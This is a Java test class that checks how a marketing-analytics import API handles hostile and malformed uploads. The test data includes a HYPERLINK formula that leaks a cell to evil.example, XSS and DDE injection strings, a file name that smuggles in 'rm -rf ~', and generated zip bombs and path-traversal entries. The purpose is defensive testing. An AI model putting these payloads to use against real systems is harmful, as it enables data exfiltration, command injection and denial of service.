package org.practicepulse.ingest;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.Writer;
import java.lang.management.ManagementFactory;
import java.lang.management.MemoryPoolMXBean;
import java.lang.management.MemoryType;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.SQLException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;

import javax.sql.DataSource;

import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInfo;
import org.junit.jupiter.api.TestInstance;
import org.practicepulse.practice.Practice;
import org.practicepulse.security.Role;
import org.practicepulse.support.GeneratedExports;
import org.practicepulse.support.StoredRows;
import org.practicepulse.support.TestData;
import org.practicepulse.support.Zips;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.path.json.JsonPath;
import jakarta.inject.Inject;

/**
 * Hostile and broken files, each uploaded through the real API into one practice that already holds
 * a baseline of real sample exports. For every file: the answer is a run (never a 500) with the exact
 * status and a reason a user can act on, the service is still healthy, the heap comes back to where it
 * was (and its old generation never grew by more than {@link #MAX_OLD_GEN_GROWTH} during the import),
 * and the practice's data is unchanged where the file must import nothing, or changed by exactly the
 * rows it should import. Every file is generated here into {@code target/hostile-inputs}.
 */
@QuarkusTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputTest {

    private static final Path SAMPLES = Path.of("import-samples", "lakeside-family-medicine");
    private static final Path DIR = Path.of("target", "hostile-inputs");
    private static final String X_NAME = "tweet_activity_metrics_HostileTest_20261001_20261101_en.csv";
    private static final String PROMOTED = ",\"-\"".repeat(18);
    private static final String VISITOR_SHEET = "Visitor metrics";
    /** Another page than the baseline's, so that the days a hostile workbook imports are new days. */
    private static final String VISITORS_NAME = "hostile-page_visitors_1794843727318.xlsx";
    /** How far the heap may stay above its level before the file, after a full GC: nothing is retained. */
    private static final long MAX_RETAINED = 96L * 1024 * 1024;
    /** How much the old generation may grow during one import: no file is ever loaded whole. */
    private static final long MAX_OLD_GEN_GROWTH = 384L * 1024 * 1024;

    @Inject
    TestData data;
    @Inject
    DataSource dataSource;

    private Practice practice;
    private String owner;
    private final List<Long> baselineRuns = new ArrayList<>();
    private String baselineFingerprint;
    private long heapBaseline;
    private Totals before;
    private long oldGenBefore;
    private long started;
    private Duration uploadTook;

    /** What the practice holds. */
    record Totals(long posts, long impressions, long snapshots, long reviews, long sessions, long accountDays, String fingerprint) {
        Totals plus(long posts, long impressions, long snapshots, long reviews, long sessions, long accountDays) {
            return new Totals(this.posts + posts, this.impressions + impressions, this.snapshots + snapshots,
                    this.reviews + reviews, this.sessions + sessions, this.accountDays + accountDays, null);
        }

        Totals withoutFingerprint() {
            return new Totals(posts, impressions, snapshots, reviews, sessions, accountDays, null);
        }
    }

    /** Done before the first case, not in @BeforeAll: REST Assured knows the test port only from @BeforeEach on. */
    private void baseline() throws Exception {
        Files.createDirectories(DIR);
        practice = data.practice("hostile", "America/Chicago");
        owner = data.user("hostile-owner", Role.OWNER, practice);
        for (Path sample : List.of(
                SAMPLES.resolve("x/tweet_activity_metrics_LakesideFamMed_20260901_20261001_en.csv"),
                SAMPLES.resolve("instagram/Aug-01-2026_Sep-30-2026_1196378420155208.csv"),
                SAMPLES.resolve("web/Traffic_acquisition_Session_source_medium.csv"),
                SAMPLES.resolve("reviews/reviews.json"),
                SAMPLES.resolve("youtube/Content 2026-08-01_2026-09-30 Lakeside Family Medicine.zip"),
                SAMPLES.resolve("linkedin/lakeside-family-medicine_visitors_1794843727318.xlsx"))) {
            JsonPath run = TestData.upload(owner, practice, sample);
            assertEquals("IMPORTED", run.getString("status"), sample + ": " + run.prettify());
            baselineRuns.add(run.getLong("id"));
        }
        Totals baseline = totals();
        assertTrue(baseline.posts() > 10 && baseline.impressions() > 0 && baseline.reviews() > 0 && baseline.sessions() > 0
                && baseline.accountDays() > 0, "the baseline holds data of every kind: " + baseline);
        baselineFingerprint = baselineFingerprint();
        heapBaseline = usedHeapAfterGc();
    }

    @BeforeEach
    void remember(TestInfo test) throws Exception {
        if (practice == null) {
            baseline();
        }
        before = totals();
        oldGenBefore = resetOldGenPeak();
        started = System.nanoTime();
    }

    @AfterEach
    void serviceIsUnharmed(TestInfo test) throws SQLException {
        given().get("/q/health").then().statusCode(200).body("status", equalTo("UP"));
        long oldGenGrowth = oldGenPeak() - oldGenBefore;
        assertTrue(oldGenGrowth < MAX_OLD_GEN_GROWTH, test.getDisplayName() + ": the old generation grew by "
                + oldGenGrowth / 1024 / 1024 + " MB during the import");
        long retained = usedHeapAfterGc() - heapBaseline;
        assertTrue(retained < MAX_RETAINED, test.getDisplayName() + ": " + retained / 1024 / 1024 + " MB more heap is in use after the import");
        assertEquals(baselineFingerprint, baselineFingerprint(), test.getDisplayName() + ": the baseline's rows changed");
        // no run of this practice is left RUNNING (a half-written import)
        TestData.as(owner).get("/api/imports?practice=" + practice.slug + "&limit=1000").then().statusCode(200)
                .body("findAll { it.status == 'RUNNING' }.size()", equalTo(0));
    }

    // ---------------------------------------------------------------- empty, binary, unknown

    @Test
    void anEmptyFileFails() throws Exception {
        JsonPath run = upload(write("empty.csv", new byte[0]), X_NAME);
        assertFailed(run, "the file is empty");
    }

    @Test
    void aHeaderOnlyFileImportsNothingAndSaysSo() throws Exception {
        JsonPath run = upload(write("header-only.csv", (GeneratedExports.X_TWEET_ACTIVITY_HEADER + "\n").getBytes(StandardCharsets.UTF_8)),
                X_NAME);
        assertEquals("IMPORTED", run.getString("status"));
        assertEquals("x-tweet-activity", run.getString("format"));
        assertEquals(0, run.getInt("rowsRead"));
        assertEquals("the file has a header but no data rows", run.getString("message"));
        assertUnchanged();
    }

    @Test
    void randomBinaryBytesFail() throws Exception {
        byte[] bytes = new byte[200_000];
        new Random(7).nextBytes(bytes);
        bytes[100] = 0;
        assertFailed(upload(write("random.bin", bytes), "export.csv"), "the file is binary");
    }

    @Test
    void aPngRenamedCsvFails() throws Exception {
        ByteArrayOutputStream png = new ByteArrayOutputStream();
        java.awt.image.BufferedImage image = new java.awt.image.BufferedImage(64, 64, java.awt.image.BufferedImage.TYPE_INT_RGB);
        javax.imageio.ImageIO.write(image, "png", png);
        assertFailed(upload(write("chart.png", png.toByteArray()), "tweet_activity_metrics_x_20261001_20261101_en.csv"),
                "the file is binary (it contains NUL bytes), not a CSV, JSON or XLSX export");
    }

    @Test
    void anUnknownCsvFails() throws Exception {
        JsonPath run = upload(write("unknown.csv", "patient_id,visit,notes\n1,2026-10-01,flu\n".getBytes(StandardCharsets.UTF_8)),
                "patients.csv");
        assertFailed(run, "unrecognised format; first line: patient_id,visit,notes");
    }

    @Test
    void unknownJsonFails() throws Exception {
        JsonPath run = upload(write("unknown.json", "{\"foo\": [1, 2, 3]}\n".getBytes(StandardCharsets.UTF_8)), "data.json");
        assertFailed(run, "unrecognised format; first line: {\"foo\": [1, 2, 3]}");
    }

    @Test
    void aFileOfOnlyBlankLinesFails() throws Exception {
        Path file = DIR.resolve("blank-lines-only.csv");
        try (OutputStream out = Files.newOutputStream(file)) {
            out.write("\r\n".repeat(200_000).getBytes(StandardCharsets.US_ASCII));
        }
        assertFailed(upload(file, X_NAME), "unrecognised format");
    }

    // ---------------------------------------------------------------- broken CSV

    @Test
    void aCsvTruncatedMidQuoteImportsTheRowsBeforeTheBreakAndRejectsTheRest() throws Exception {
        String good = xRow("1900000000000000001", "A complete tweet", "2026-10-02 09:00 +0000", 120);
        String cut = xRow("1900000000000000002", "This tweet was cut off in the mid", "2026-10-03 09:00 +0000", 80);
        cut = cut.substring(0, cut.indexOf("in the mid") + 10); // the download ended inside the quoted text
        JsonPath run = upload(write("truncated.csv", (GeneratedExports.X_TWEET_ACTIVITY_HEADER + "\n" + good + "\n" + cut)
                .getBytes(StandardCharsets.UTF_8)), X_NAME);
        assertEquals("PARTIAL", run.getString("status"), run.prettify());
        assertEquals(1, run.getInt("rowsImported"));
        assertEquals(1, run.getInt("rowsRejected"));
        assertEquals(3, run.getInt("errors[0].line"));
        assertContains(run.getString("errors[0].message"), "malformed CSV from this line on");
        assertContains(run.getString("errors[0].message"), "the rest of the file was not read");
        assertChanged(1, 120, 1, 0, 0, 0);
    }

    @Test
    void aCsvWhoseOnlyRowIsTruncatedMidQuoteFails() throws Exception {
        String cut = xRow("1900000000000000003", "Cut off", "2026-10-03 09:00 +0000", 80);
        cut = cut.substring(0, cut.indexOf("Cut off") + 3);
        JsonPath run = upload(write("truncated-only.csv", (GeneratedExports.X_TWEET_ACTIVITY_HEADER + "\n" + cut)
                .getBytes(StandardCharsets.UTF_8)), X_NAME);
        assertEquals("FAILED", run.getString("status"));
        assertEquals("no row could be imported; see the errors", run.getString("message"));
        assertEquals(2, run.getInt("errors[0].line"));
        assertContains(run.getString("errors[0].message"), "malformed CSV from this line on");
        assertUnchanged();
    }

    @Test
    void aUtf16CsvWithoutByteOrderMarkIsReadAsUtf16() throws Exception {
        String csv = GeneratedExports.X_TWEET_ACTIVITY_HEADER + "\r\n"
                + xRow("1900000000000000010", "Grüße aus der Praxis – naïve café", "2026-10-04 09:00 +0000", 30) + "\r\n";
        JsonPath run = upload(write("utf16le.csv", csv.getBytes(StandardCharsets.UTF_16LE)), X_NAME);
        assertEquals("IMPORTED", run.getString("status"), run.prettify());
        assertEquals(1, run.getInt("rowsImported"));
        assertEquals("Grüße aus der Praxis – naïve café", storedText("x", "1900000000000000010"));
        assertChanged(1, 30, 1, 0, 0, 0);
    }

    @Test
    void aWindows1252CsvKeepsItsAccents() throws Exception {
        String csv = GeneratedExports.X_TWEET_ACTIVITY_HEADER + "\r\n"
                + xRow("1900000000000000011", "Café à la clinique – déjà vu", "2026-10-04 10:00 +0000", 31) + "\r\n";
        JsonPath run = upload(write("cp1252.csv", csv.getBytes(Charset.forName("windows-1252"))), X_NAME);
        assertEquals("IMPORTED", run.getString("status"), run.prettify());
        assertEquals("Café à la clinique – déjà vu", storedText("x", "1900000000000000011"));
        assertChanged(1, 31, 1, 0, 0, 0);
    }

    @Test
    void nulBytesAtTheStartMakeTheFileBinary() throws Exception {
        String csv = GeneratedExports.X_TWEET_ACTIVITY_HEADER + "\n"
                + xRow("1900000000000000020", "NUL\0inside", "2026-10-04 11:00 +0000", 10) + "\n";
        assertFailed(upload(write("nul-head.csv", csv.getBytes(StandardCharsets.UTF_8)), X_NAME), "the file is binary");
    }

    @Test
    void aNulByteBeyondTheFirst64KbRejectsItsRow() throws Exception {
        StringBuilder csv = new StringBuilder(GeneratedExports.X_TWEET_ACTIVITY_HEADER).append('\n');
        int line = 1;
        for (int i = 0; csv.length() < 100_000; i++) {
            csv.append(xRow(String.valueOf(1900000000000001000L + i), "Filler tweet " + i, "2026-10-05 09:00 +0000", 1)).append('\n');
            line++;
        }
        csv.append(xRow("1900000000000000021", "NUL\0inside", "2026-10-05 10:00 +0000", 10)).append('\n');
        line++;
        int rows = line - 2;
        JsonPath run = upload(write("nul-late.csv", csv.toString().getBytes(StandardCharsets.UTF_8)), X_NAME);
        assertEquals("PARTIAL", run.getString("status"), run.prettify());
        assertEquals(rows, run.getInt("rowsImported"));
        assertEquals(1, run.getInt("rowsRejected"));
        assertEquals(line, run.getInt("errors[0].line"));
        assertContains(run.getString("errors[0].message"), "NUL");
        assertChanged(rows, rows, rows, 0, 0, 0);
    }

    @Test
    void aTenMegabyteFieldRejectsItsRowQuickly() throws Exception {
        Path file = DIR.resolve("huge-field.csv");
        try (Writer out = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            out.write(GeneratedExports.X_TWEET_ACTIVITY_HEADER + "\n");
            out.write(xRow("1900000000000000030", "fine", "2026-10-06 09:00 +0000", 7) + "\n");
            out.write(xRow("1900000000000000031", "x".repeat(10 * 1024 * 1024), "2026-10-06 10:00 +0000", 8) + "\n");
        }
        JsonPath run = upload(file, X_NAME);
        assertQuick(Duration.ofSeconds(8));
        assertEquals("PARTIAL", run.getString("status"), run.getString("errors"));
        assertEquals(3, run.getInt("errors[0].line"));
        assertContains(run.getString("errors[0].message"), "10485760 characters");
        assertNull(storedText("x", "1900000000000000031"));
        assertChanged(1, 7, 1, 0, 0, 0);
    }

    @Test
    void aHundredThousandColumnsFailQuickly() throws Exception {
        Path file = DIR.resolve("wide.csv");
        try (Writer out = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            out.write(GeneratedExports.X_TWEET_ACTIVITY_HEADER);
            for (int i = 0; i < 100_000; i++) {
                out.write(",\"c" + i + "\"");
            }
            out.write("\n");
            out.write(xRow("1900000000000000040", "wide", "2026-10-06 09:00 +0000", 7));
            for (int i = 0; i < 100_000; i++) {
                out.write(",\"1\"");
            }
            out.write("\n");
        }
        JsonPath run = upload(file, X_NAME);
        assertQuick(Duration.ofSeconds(8));
        assertFailed(run, "the header has 100040 columns");
    }

    @Test
    void aMillionBlankLinesAreSkippedQuickly() throws Exception {
        Path file = DIR.resolve("blank-lines.csv");
        try (Writer out = Files.newBufferedWriter(file, StandardCharsets.UTF_8)) {
            out.write(GeneratedExports.X_TWEET_ACTIVITY_HEADER + "\n");
            for (int i = 0; i < 1_000_000; i++) {
                out.write('\n');
            }
            out.write(xRow("1900000000000000050", "after a million blank lines", "2026-10-07 09:00 +0000", 50) + "\n");
        }
        JsonPath run = upload(file, X_NAME);
        assertQuick(Duration.ofSeconds(8));
        assertEquals("IMPORTED", run.getString("status"), run.prettify());
        assertEquals(1, run.getInt("rowsImported"));
        assertEquals("after a million blank lines", storedText("x", "1900000000000000050"));
        assertChanged(1, 50, 1, 0, 0, 0);
    }

    // ---------------------------------------------------------------- numbers and dates

    @Test
    void impossibleCountersRejectTheirRowsWithLineAndReason() throws Exception {
        String csv = GeneratedExports.X_TWEET_ACTIVITY_HEADER + "\n"
                + xRow("1900000000000000060", "good", "2026-10-08 09:00 +0000", 40) + "\n"
                + xRowRaw("1900000000000000061", "overflow", "2026-10-08 10:00 +0000", "1e309") + "\n"
                + xRowRaw("1900000000000000062", "nan", "2026-10-08 11:00 +0000", "NaN") + "\n"
                + xRowRaw("1900000000000000063", "negative", "2026-10-08 12:00 +0000", "-5") + "\n"
                + xRowRaw("1900000000000000064", "too big", "2026-10-08 13:00 +0000", "92233720368547758070") + "\n"
                + xRowRaw("1900000000000000065", "infinity", "2026-10-08 14:00 +0000", "Infinity") + "\n";
        JsonPath run = upload(write("numbers.csv", csv.getBytes(StandardCharsets.UTF_8)), X_NAME);
        assertEquals("PARTIAL", run.getString("status"));
        assertEquals(1, run.getInt("rowsImported"));
        assertEquals(5, run.getInt("rowsRejected"));
        assertEquals(List.of(3, 4, 5, 6, 7), run.getList("errors.line", Integer.class));
        assertEquals("impressions: '1e309' is not a number", run.getString("errors[0].message"));
        assertEquals("impressions: 'NaN' is not a number", run.getString("errors[1].message"));
        assertEquals("impressions: -5 is negative", run.getString("errors[2].message"));
        assertEquals("impressions: '92233720368547758070' is out of range", run.getString("errors[3].message"));
        assertEquals("impressions: 'Infinity' is not a number", run.getString("errors[4].message"));
        assertChanged(1, 40, 1, 0, 0, 0);
    }

    @Test
    void metaCsvWithNegativeAndNonNumericCountersRejectsThoseRows() throws Exception {
        Path sample = SAMPLES.resolve("instagram/Aug-01-2026_Sep-30-2026_1196378420155208.csv");
        List<String> lines = Files.readAllLines(sample, StandardCharsets.UTF_8);
        String header = lines.get(0);
        String row = "184997075068419999,17841452093318764,lakesidefamilymed,Lakeside Family Medicine,\"new post\",0,"
                + "10/01/2026 12:05,https://www.instagram.com/p/hostile1/,IG image,,Lifetime,";
        String csv = header + "\n" + row + "100,80,5,1,0,0,0\n" + row.replace("hostile1", "hostile2").replace("419999", "419998")
                + "-5,80,5,1,0,0,0\n" + row.replace("hostile1", "hostile3").replace("419999", "419997") + "1e309,80,5,1,0,0,0\n";
        JsonPath run = upload(write("meta.csv", csv.getBytes(StandardCharsets.UTF_8)), "Oct-01-2026_Oct-31-2026_1999999999999999.csv");
        assertEquals("meta-instagram-posts", run.getString("format"));
        assertEquals("PARTIAL", run.getString("status"), run.prettify());
        assertEquals(1, run.getInt("rowsImported"));
        assertEquals(List.of(3, 4), run.getList("errors.line", Integer.class));
        assertContains(run.getString("errors[0].message"), "-5 is negative");
        assertContains(run.getString("errors[1].message"), "'1e309' is not a number");
        assertChanged(1, 100, 1, 0, 0, 0);
    }

    @Test
    void youTubeSubscribersMayBeNegative() throws Exception {
        String table = "Content,Video title,Video publish time,Duration,Views,Watch time (hours),Subscribers,Impressions,"
                + "Impressions click-through rate (%),Average view duration,Likes,Comments added,Shares\n"
                + "Total,,,,100,1.5,-5,2000,4.0,0:00:30,10,1,1\n"
                + "HostileVid01,A video that lost subscribers,\"Oct 1, 2026\",60,100,1.5,-5,2000,4.0,0:00:30,10,1,1\n"
                + "HostileVid02,Views cannot be negative,\"Oct 2, 2026\",60,-3,1.5,2,2000,4.0,0:00:30,10,1,1\n";
        JsonPath run = upload(write("youtube-negative.zip", Zips.of(Map.of("Table data.csv", table.getBytes(StandardCharsets.UTF_8)), 9)),
                "Content 2026-10-01_2026-10-31 Hostile Channel.zip");
        assertEquals("PARTIAL", run.getString("status"), run.prettify());
        assertEquals(1, run.getInt("rowsImported"));
        assertContains(run.getString("errors[0].message"), "Table data.csv: views: -3 is negative");
        StoredRows.Snapshot video = StoredRows.onlySnapshot(dataSource, practice.id, "youtube", "HostileVid01");
        assertEquals(-5L, video.get("follows"));
        assertChanged(1, 2000, 1, 0, 0, 0);
    }

    @Test
    void datesInYearZeroOr9999RejectTheirRows() throws Exception {
        String csv = GeneratedExports.X_TWEET_ACTIVITY_HEADER + "\n"
                + xRow("1900000000000000070", "good", "2026-10-09 09:00 +0000", 60) + "\n"
                + xRow("1900000000000000071", "year zero", "0000-01-01 00:00 +0000", 61) + "\n"
                + xRow("1900000000000000072", "year 9999", "9999-12-31 23:59 +0000", 62) + "\n";
        JsonPath run = upload(write("dates.csv", csv.getBytes(StandardCharsets.UTF_8)), X_NAME);
        assertEquals("PARTIAL", run.getString("status"), run.prettify());
        assertEquals(List.of(3, 4), run.getList("errors.line", Integer.class));
        assertContains(run.getString("errors[0].message"), "'0000-01-01 00:00 +0000' is outside 2000-2100");
        assertContains(run.getString("errors[1].message"), "'9999-12-31 23:59 +0000' is outside 2000-2100");
        assertChanged(1, 60, 1, 0, 0, 0);
    }

    @Test
    void ga4RowsWithImpossibleSessionsAreRejected() throws Exception {
        List<String> lines = Files.readAllLines(SAMPLES.resolve("web/Traffic_acquisition_Session_source_medium.csv"), StandardCharsets.UTF_8);
        StringBuilder csv = new StringBuilder();
        for (String l : lines) {
            csv.append(l).append('\n');
            if (l.startsWith("Session source / medium")) {
                break;
            }
        }
        csv.append("hostile / test,20261101,7,5,0.7,80.0,6.0,600,1,0.1,0\n");
        csv.append("hostile / test,20261102,NaN,5,0.7,80.0,6.0,600,1,0.1,0\n");
        csv.append("hostile / test,20261103,-5,5,0.7,80.0,6.0,600,1,0.1,0\n");
        JsonPath run = upload(write("ga4.csv", csv.toString().getBytes(StandardCharsets.UTF_8)), "Traffic_acquisition_hostile.csv");
        assertEquals("ga4-traffic", run.getString("format"));
        assertEquals("PARTIAL", run.getString("status"), run.prettify());
        int header = lines.indexOf(lines.stream().filter(l -> l.startsWith("Session source")).findFirst().orElseThrow()) + 1;
        assertEquals(List.of(header + 2, header + 3), run.getList("errors.line", Integer.class));
        assertContains(run.getString("errors[0].message"), "'NaN' is not a number");
        assertContains(run.getString("errors[1].message"), "-5 is negative");
        assertChanged(0, 0, 0, 0, 7, 0);
    }

    @Test
    void ga4RowsInYearZeroOr9999AreRejected() throws Exception {
        List<String> lines = Files.readAllLines(SAMPLES.resolve("web/Traffic_acquisition_Session_source_medium.csv"), StandardCharsets.UTF_8);
        String header = lines.stream().filter(l -> l.startsWith("Session source")).findFirst().orElseThrow();
        String csv = header + "\nhostile / year,99991231,8,5,0.7,80.0,6.0,600,1,0.1,0\nhostile / year,00000101,9,5,0.7,80.0,6.0,600,1,0.1,0\n"
                + "hostile / year,20261104,3,5,0.7,80.0,6.0,600,1,0.1,0\n";
        JsonPath run = upload(write("ga4-years.csv", csv.getBytes(StandardCharsets.UTF_8)), "Traffic_acquisition_years.csv");
        assertEquals("PARTIAL", run.getString("status"), run.prettify());
        assertEquals(List.of(2, 3), run.getList("errors.line", Integer.class));
        assertContains(run.getString("errors[0].message"), "outside 2000-2100");
        assertChanged(0, 0, 0, 0, 3, 0);
    }

    // ---------------------------------------------------------------- JSON

    @Test
    void jsonNestedTenThousandDeepFails() throws Exception {
        String review = "{\"reviews\": [{\"reviewId\": \"deep1\", \"starRating\": \"FIVE\", \"createTime\": \"2026-10-01T00:00:00Z\", \"x\": "
                + "[".repeat(10_000) + "]".repeat(10_000) + "}]}";
        JsonPath run = upload(write("deep.json", review.getBytes(StandardCharsets.UTF_8)), "reviews.json");
        assertFailed(run, "the JSON is beyond the importer's limits");
        assertContains(run.getString("message"), "nothing was imported");
    }

    @Test
    void reviewsWithImpossibleValuesAreRejectedAndTheRestImports() throws Exception {
        String json = """
                {"reviews": [
                  {"reviewId": "hostile-ok", "starRating": "FOUR", "comment": "<script>alert('x')</script> & =HYPERLINK(\\"http://evil.example\\",\\"click\\")", "createTime": "2026-10-01T10:00:00Z"},
                  {"reviewId": "hostile-9999", "starRating": "FIVE", "createTime": "9999-12-31T23:59:59Z"},
                  {"reviewId": "hostile-0", "starRating": "FIVE", "createTime": "0000-01-01T00:00:00Z"},
                  {"reviewId": "hostile-six", "starRating": "SIX", "createTime": "2026-10-01T10:00:00Z"},
                  {"reviewId": "hostile-nul", "starRating": "FIVE", "comment": "nul\\u0000here", "createTime": "2026-10-01T10:00:00Z"},
                  {"reviewId": "hostile-nan", "starRating": NaN, "createTime": "2026-10-01T10:00:00Z"}
                ]}
                """;
        JsonPath run = upload(write("reviews-bad.json", json.getBytes(StandardCharsets.UTF_8)), "reviews.json");
        assertEquals("PARTIAL", run.getString("status"), run.prettify());
        assertEquals(1, run.getInt("rowsImported"));
        assertEquals(List.of(3, 4, 5, 6, 7), run.getList("errors.line", Integer.class));
        assertContains(run.getString("errors[0].message"), "outside 2000-2100");
        assertContains(run.getString("errors[1].message"), "outside 2000-2100");
        assertContains(run.getString("errors[2].message"), "SIX");
        assertContains(run.getString("errors[3].message"), "NUL");
        assertContains(run.getString("errors[4].message"), "malformed JSON from this line on");
        assertEquals("<script>alert('x')</script> & =HYPERLINK(\"http://evil.example\",\"click\")",
                StoredRows.query(dataSource, "select text from review where practice_id = ? and external_id = 'hostile-ok'", practice.id)
                        .get(0).get("text"));
        assertChanged(0, 0, 0, 1, 0, 0);
    }

    @Test
    void jsonTruncatedMidStringRejectsTheRest() throws Exception {
        String json = "{\"reviews\": [\n{\"reviewId\": \"trunc-ok\", \"starRating\": \"FIVE\", \"createTime\": \"2026-10-02T10:00:00Z\"},\n"
                + "{\"reviewId\": \"trunc-cut\", \"starRating\": \"FIVE\", \"comment\": \"this was cut o";
        JsonPath run = upload(write("truncated.json", json.getBytes(StandardCharsets.UTF_8)), "reviews.json");
        assertEquals("PARTIAL", run.getString("status"), run.prettify());
        assertEquals(1, run.getInt("rowsImported"));
        assertContains(run.getString("errors[0].message"), "malformed JSON from this line on");
        assertChanged(0, 0, 0, 1, 0, 0);
    }

    // ---------------------------------------------------------------- text that must stay text

    @Test
    void formulaAndScriptTextIsStoredIntact() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")";
        String script = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)>";
        String csv = GeneratedExports.X_TWEET_ACTIVITY_HEADER + "\n"
                + xRow("1900000000000000080", formula, "2026-10-10 09:00 +0000", 11) + "\n"
                + xRow("1900000000000000081", script, "2026-10-10 10:00 +0000", 12) + "\n"
                + xRow("1900000000000000082", "+cmd|' /C calc'!A0", "2026-10-10 11:00 +0000", 13) + "\n";
        JsonPath run = upload(write("formula.csv", csv.getBytes(StandardCharsets.UTF_8)), X_NAME);
        assertEquals("IMPORTED", run.getString("status"), run.prettify());
        assertEquals(formula, storedText("x", "1900000000000000080"));
        assertEquals(script, storedText("x", "1900000000000000081"));
        assertEquals("+cmd|' /C calc'!A0", storedText("x", "1900000000000000082"));
        assertChanged(3, 36, 3, 0, 0, 0);
    }

    // ---------------------------------------------------------------- file names

    @Test
    void aFileNameWithShellCharactersIsStoredSafely() throws Exception {
        String name = "; rm -rf ~ $(id) `x`.csv";
        JsonPath run = upload(write("shell.csv", xFile("1900000000000000090", 5)), name);
        assertEquals("IMPORTED", run.getString("status"), run.prettify());
        assertEquals(name, run.getString("file"));
        assertEquals(List.of("__rm_-rf_____id___x_.csv"), storedNames(run));
        assertChanged(1, 5, 1, 0, 0, 0);
    }

    @Test
    void aFileNameThatClimbsOutOfTheUploadFolderStaysInside() throws Exception {
        JsonPath run = upload(write("passwd.csv", xFile("1900000000000000091", 5)), "../../etc/passwd.csv");
        assertEquals("IMPORTED", run.getString("status"), run.prettify());
        assertEquals(List.of("passwd.csv"), storedNames(run));
        assertFalse(Files.exists(Path.of("target", "etc", "passwd.csv")));
        assertFalse(Files.exists(Path.of("target", "test-uploads", "etc")));
        assertChanged(1, 5, 1, 0, 0, 0);
    }

    @Test
    void aVeryLongUnicodeFileNameIsStoredShortAndReportedWithoutControlCharacters() throws Exception {
        String name = "Übersicht 📈 \u0007\u001b[31mred\u001b[0m\t" + "ж".repeat(600) + ".csv";
        JsonPath run = upload(write("long.csv", xFile("1900000000000000092", 5)), name);
        assertEquals("IMPORTED", run.getString("status"), run.prettify());
        String reported = run.getString("file");
        assertFalse(reported.chars().anyMatch(Character::isISOControl), reported);
        // REST Assured sends non-ASCII file names as '?': only the ASCII parts are compared
        assertTrue(reported.matches("^.bersicht .+ \\[31mred\\[0m.*"), reported);
        assertEquals(255, reported.codePointCount(0, reported.length()), reported);
        assertTrue(reported.endsWith(".csv") && reported.contains("…"), reported);
        String stored = storedNames(run).get(0);
        assertTrue(stored.length() <= 120 && stored.matches("[A-Za-z0-9._-]+") && stored.endsWith(".csv"), stored);
        assertChanged(1, 5, 1, 0, 0, 0);
    }

    // ---------------------------------------------------------------- zips

    @Test
    void aZipBombIsRefusedWithoutUnpackingIt() throws Exception {
        Path bomb = DIR.resolve("bomb.zip");
        try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(bomb))) {
            out.setLevel(9);
            out.putNextEntry(new ZipEntry("Table data.csv"));
            out.write("Content,Video title,Video publish time,Duration,Views\n".getBytes(StandardCharsets.UTF_8));
            byte[] zeros = new byte[1 << 20];
            Arrays.fill(zeros, (byte) '0');
            for (int i = 0; i < 512; i++) {
                out.write(zeros);
            }
            out.closeEntry();
        }
        assertTrue(Files.size(bomb) < 2 * 1024 * 1024, "the bomb is small: " + Files.size(bomb));
        JsonPath run = upload(bomb, "Content 2026-10-01_2026-10-31 Hostile Channel.zip");
        assertQuick(Duration.ofSeconds(8));
        assertFailed(run, "(a zip bomb?); refused");
        assertNoTemporaryZipFolderLeft();
    }

    @Test
    void aZipEntryClimbingOutIsRefused() throws Exception {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("Table data.csv", Zips.entry(SAMPLES.resolve("youtube/Content 2026-08-01_2026-09-30 Lakeside Family Medicine.zip"),
                "Table data.csv"));
        entries.put("../../../../tmp/hostile-escape.csv", "pwned".getBytes(StandardCharsets.UTF_8));
        JsonPath run = upload(write("slip.zip", Zips.of(entries, 6)), "Content 2026-10-01_2026-10-31 Hostile Channel.zip");
        assertFailed(run, "the zip holds an unsafe entry name '../../../../tmp/hostile-escape.csv' (absolute or with '..'); refused");
        assertFalse(Files.exists(Path.of("/tmp/hostile-escape.csv")));
        assertNoTemporaryZipFolderLeft();
    }

    @Test
    void aZipOfTooManyEntriesIsRefused() throws Exception {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (int i = 0; i < 5_000; i++) {
            entries.put("f" + i + ".csv", new byte[0]);
        }
        assertFailed(upload(write("many.zip", Zips.of(entries, 6)), "Content 2026-10-01_2026-10-31 Hostile Channel.zip"),
                "the zip has more than 200 entries; refused");
    }

    @Test
    void aTruncatedYouTubeZipFails() throws Exception {
        byte[] zip = Files.readAllBytes(SAMPLES.resolve("youtube/Content 2026-08-01_2026-09-30 Lakeside Family Medicine.zip"));
        JsonPath run = upload(write("truncated.zip", Arrays.copyOf(zip, zip.length / 2)), "Content 2026-10-01_2026-10-31 Hostile Channel.zip");
        assertFailed(run, "the zip is damaged or truncated");
    }

    @Test
    void aZipOfOnlyANestedZipHoldsNothingRecognised() throws Exception {
        byte[] inner = Files.readAllBytes(SAMPLES.resolve("youtube/Content 2026-08-01_2026-09-30 Lakeside Family Medicine.zip"));
        JsonPath run = upload(write("nested.zip", Zips.of(Map.of("inner.zip", inner), 6)), "Content 2026-10-01_2026-10-31 Hostile Channel.zip");
        assertFailed(run, "the zip holds no files");
    }

    // ---------------------------------------------------------------- workbooks

    @Test
